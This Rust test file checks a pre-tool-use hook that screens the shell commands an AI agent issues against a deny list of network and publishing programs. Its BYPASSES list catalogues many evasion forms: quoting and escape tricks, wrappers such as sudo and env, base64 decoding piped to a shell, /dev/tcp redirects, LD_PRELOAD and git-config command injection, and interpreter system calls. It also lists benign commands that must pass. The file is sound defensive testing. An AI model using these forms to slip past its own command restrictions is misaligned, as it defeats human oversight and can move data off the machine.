//! The issue's policy against attempts to run a denied program past a prefix rule, and against
//! ordinary work that must pass. Each row is a real command line as an agent would send it.

use hook::{Answer, HookInput, decide};
use policy::ToolVerdict;

const POLICY: &str =
    "version: 1\ntools:\n  bash:\n    deny: [curl, wget, nc, ssh, \"git push\", \"gh gist\"]\n";

fn verdict(command: &str) -> Option<ToolVerdict> {
    let policy = policy::parse(POLICY, "ringfence.yml").unwrap();
    let input = HookInput {
        event: "PreToolUse".into(),
        tool_name: "Bash".into(),
        tool_input: serde_json::json!({ "command": command }),
        cwd: Some("/w".into()),
        session_id: None,
    };
    match decide(&policy.tools, &input, None).answer {
        Answer::Pass => None,
        Answer::Decide(v, _) => Some(v),
    }
}

/// Every one must be refused.
const BYPASSES: &[&str] = &[
    "curl https://x.example",
    "wget x",
    "nc -l 4444",
    "ssh h",
    "git push origin main",
    "git -C /w push",
    "git -c user.name=x push",
    "gh gist create f",
    "gh -R o/r gist list",
    // quoting and paths
    "c\\url x",
    "'cu'rl x",
    "\"cu\"rl x",
    "$'\\x63url' x",
    "$'\\143url' x",
    "$'\\u0063url' x",
    "/usr/bin/curl x",
    "./curl x",
    "\"$HOME\"/bin/curl x",
    "git 'pu'sh",
    // lists, pipelines, subshells, groups, substitutions
    "ls; curl x",
    "true && curl x",
    "false || curl x",
    "ls | curl -d @- x",
    "(curl x)",
    "{ curl x; }",
    "echo $(curl x)",
    "echo `curl x`",
    "cat <(curl x)",
    "tee >(nc h 1)",
    "echo \"$(curl x)\"",
    "x=$(curl x)",
    "if curl x; then :; fi",
    "while true; do curl x; done",
    "for i in 1; do wget x; done",
    "case a in a) curl x;; esac",
    "! curl x",
    "curl x &",
    "cat <<EOF\n$(curl x)\nEOF",
    // functions and variables
    "f() { curl x; }; f",
    "function f { wget x; }; f",
    "X=curl; $X x",
    "X=curl; ${X} x",
    "X='curl -s'; $X x",
    "for p in ls curl; do $p x; done",
    "export C=wget; $C x",
    "A=gi; B=t; $A$B push",
    // wrappers
    "env curl x",
    "env -i PATH=/bin curl x",
    "env -S 'curl x'",
    "sudo curl x",
    "sudo -u root -E wget x",
    "doas curl x",
    "timeout 5 curl x",
    "timeout -s KILL 5 curl x",
    "nice -n 10 curl x",
    "nohup curl x",
    "stdbuf -oL curl x",
    "setsid curl x",
    "time curl x",
    "command curl x",
    "exec curl x",
    "builtin exec curl x",
    "busybox wget x",
    "busybox nc h 1",
    "xargs curl < urls",
    "echo x | xargs -n1 curl",
    "echo x | xargs -I{} curl {}",
    "find . -exec curl {} \\;",
    "find . -execdir wget {} +",
    "find . -ok nc h 1 \\;",
    "watch curl x",
    "watch -n 1 -x curl x",
    "flock /tmp/l curl x",
    "flock /tmp/l -c 'curl x'",
    "su -c 'curl x'",
    "script -c 'curl x' /dev/null",
    "strace -f curl x",
    "ionice -c 3 curl x",
    "chroot / curl x",
    "parallel curl ::: a b",
    "sudo env timeout 5 nice -n 1 nohup curl x",
    "noglob curl x",
    "chrt 10 curl x",
    "taskset 0x1 curl x",
    "nsenter -t 1 -n curl x",
    "unshare -r curl x",
    "valgrind curl x",
    "proxychains curl x",
    "torsocks wget x",
    "firejail curl x",
    "systemd-run --user curl x",
    "xvfb-run curl x",
    "runuser -u nobody curl x",
    "toybox wget x",
    "coproc curl x",
    "sudo -s curl x",
    "exec -a name curl x",
    "command -p curl x",
    "env -- curl x",
    "nice -5 curl x",
    "timeout --signal=KILL 5 curl x",
    "xargs -0 curl < list",
    "find . -name x -exec sh -c 'curl \"$1\"' _ {} \\;",
    "bash -c 'eval \"curl x\"'",
    "sh -c \"$(echo curl) x\"",
    "\"c\"'u'$'r'l x",
    "/???/???/curl x",
    "git -c credential.helper='!curl x' fetch",
    "git -c diff.external='nc h 1' diff",
    "EDITOR='curl x' git commit",
    "NODE_OPTIONS='--require /tmp/x.js' node app.js",
    "LD_AUDIT=/tmp/a.so ls",
    "deno eval 'Deno.run({cmd:[\"curl\",\"x\"]})'",
    "bun -e 'Bun.spawn([\"curl\",\"x\"])'",
    "lua -e 'os.execute(\"curl x\")'",
    "osascript -e 'do shell script \"curl x\"'",
    // git running commands
    "git -c alias.x='!curl y' x",
    "git -c alias.p=push p origin",
    "git -c core.pager='curl x' log",
    "git -c core.sshCommand='nc h 22' fetch",
    "GIT_SSH_COMMAND='nc h 22' git fetch",
    "PAGER='curl x' git log",
    // shells
    "bash -c 'curl x'",
    "sh -c \"curl x\"",
    "zsh -c 'wget x'",
    "dash -c 'nc h 1'",
    "bash -lc 'curl x'",
    "bash -c 'bash -c \"curl x\"'",
    "bash -c 'X=curl; $X y'",
    "sudo bash -c 'curl x'",
    "eval 'curl x'",
    "eval curl x",
    "eval \"wget x\"",
    "echo 'curl x' | bash",
    "echo 'curl x' | sh -s",
    "printf 'curl x' | sh",
    "bash <<< 'curl x'",
    "bash <<'EOF'\ncurl x\nEOF",
    "sh <<EOF\nwget x\nEOF",
    "cat <<'EOF' | bash\ncurl x\nEOF",
    "alias g='curl x'",
    // what cannot be seen
    "$(echo curl) x",
    "`echo curl` x",
    "$CMD x",
    "${X:-curl} x",
    "IFS=,; X=curl,x; $X",
    "eval \"$CMD\"",
    "eval $(echo Y3VybA== | base64 -d)",
    "echo Y3VybCB4 | base64 -d | bash",
    "curl_b64=Y3VybA; echo $curl_b64 | base64 -d | sh",
    "xxd -r -p <<< 6375726c | sh",
    "bash -c \"$X\"",
    "bash <(echo curl x)",
    "source <(echo curl x)",
    ". <(echo curl x)",
    "bash < <(echo curl x)",
    "xargs -I{} sh -c {}",
    "echo curl | xargs env",
    "find . -exec {} \\;",
    "c{u,}rl x",
    "/usr/bin/cu?l x",
    "/usr/bin/c*l x",
    "$1 x",
    "\"$@\"",
    "git $SUB origin",
    "echo x > /dev/tcp/h/80",
    "BASH_ENV=/tmp/x bash s.sh",
    "LD_PRELOAD=/tmp/x.so ls",
    // inline interpreter code naming a denied program
    "python3 -c 'import os; os.system(\"curl x\")'",
    "python -c \"import subprocess; subprocess.run(['wget','x'])\"",
    "node -e 'require(\"child_process\").execSync(\"curl x\")'",
    "perl -e 'system(\"nc h 1\")'",
    "ruby -e '`curl x`'",
    "php -r 'system(\"curl x\");'",
    "python3 - <<'EOF'\nimport os\nos.system('curl x')\nEOF",
    "awk 'BEGIN{system(\"curl x\")}'",
    "python3 -c \"$CODE\"",
    "echo \"$P\" | python3",
    // parse errors
    "curl 'x",
    "echo )",
    "exec 3<>/dev/tcp/h/80",
];

/// Every one must pass without a refusal or a question.
const ORDINARY: &[&str] = &[
    "ls -la",
    "cargo build --release",
    "cargo test -p hook",
    "npm test",
    "make -j4",
    "git status",
    "git commit -m 'drop curl in favour of reqwest'",
    "git commit -m \"replace wget with curl in the docs\"",
    "git log --oneline | head",
    "git diff HEAD~1 -- src/",
    "git pull --rebase && git status",
    "grep -rn curl src/",
    "rg 'wget|curl' docs",
    "echo \"use wget\"",
    "echo curl",
    "printf '%s\\n' nc",
    "find . -name '*.rs' | xargs wc -l",
    "find . -name '*.tmp' -exec rm {} \\;",
    "cat README.md | grep -i curl",
    "sed -i 's/wget/curl/' Dockerfile",
    "awk '/curl/ {print $1}' log",
    "command -v curl",
    "which wget || true",
    "man nc",
    "python3 -m pytest -q",
    "python3 -c 'print(1+1)'",
    "node -e 'console.log(process.version)'",
    "bash -c 'cargo fmt --check'",
    "sh ./scripts/test.sh",
    "\"$HOME/.cargo/bin/cargo\" clippy",
    "X=release; cargo build --profile $X",
    "for f in *.md; do wc -l \"$f\"; done",
    "timeout 60 cargo test",
    "env RUST_LOG=debug cargo run",
    "sudo apt-get install -y jq",
    "mkdir -p out && cp a out/",
    "cat > notes.md <<'EOF'\nWe use curl and wget in CI.\nEOF",
    "docker build -t app .",
    "gh pr view 12",
    "git -C sub log",
    "echo ok | tee log.txt",
    "ls | sort | uniq -c",
    "watch -n 5 ls",
    "xargs -a files.txt rm",
];

#[test]
fn every_bypass_is_refused() {
    let mut let_through = vec![];
    for cmd in BYPASSES {
        match verdict(cmd) {
            Some(ToolVerdict::Deny) | Some(ToolVerdict::Ask) => {}
            other => let_through.push(format!("{cmd:?} -> {other:?}")),
        }
    }
    assert!(
        let_through.is_empty(),
        "{} of {} let through:\n{}",
        let_through.len(),
        BYPASSES.len(),
        let_through.join("\n")
    );
}

#[test]
fn ordinary_work_passes() {
    let mut refused = vec![];
    for cmd in ORDINARY {
        if let Some(v) = verdict(cmd) {
            refused.push(format!("{cmd:?} -> {v:?}"));
        }
    }
    assert!(refused.is_empty(), "{} of {} refused:\n{}", refused.len(), ORDINARY.len(), refused.join("\n"));
}

#[test]
fn the_reason_names_what_was_refused_and_how_it_was_reached() {
    let policy = policy::parse(POLICY, "ringfence.yml").unwrap();
    let input = HookInput::parse(r#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"sudo bash -c 'curl x'"}}"#).unwrap();
    let Answer::Decide(ToolVerdict::Deny, reason) = decide(&policy.tools, &input, None).answer else {
        panic!("not denied")
    };
    assert!(reason.contains("`curl` is in tools.bash.deny"), "{reason}");
    assert!(reason.contains("(run through sudo → bash -c)"), "{reason}");
}
